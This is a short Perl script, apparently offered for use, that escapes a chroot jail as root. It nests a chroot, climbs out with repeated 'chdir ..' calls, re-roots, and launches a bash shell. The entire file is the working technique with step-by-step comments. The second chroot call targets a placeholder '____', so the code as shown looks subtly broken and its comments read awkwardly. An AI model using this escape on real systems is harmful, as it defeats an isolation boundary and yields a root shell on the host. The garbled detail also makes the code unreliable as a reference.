#!/usr/bin/perl
# To be run in the jail, as root.
mkdir "/hole";
chroot "/hole" or die "chroot: $!\n";  # The root goes down; the working directory stays above it.
chdir ".." for 1 .. 64;                # ".." ends at the root, and that is not on this way.
chroot "____" or die "chroot: $!\n";   # The root follows.
exec "/bin/bash" or print "There is no bash here: $! (Ctrl+C)\n";
sleep;
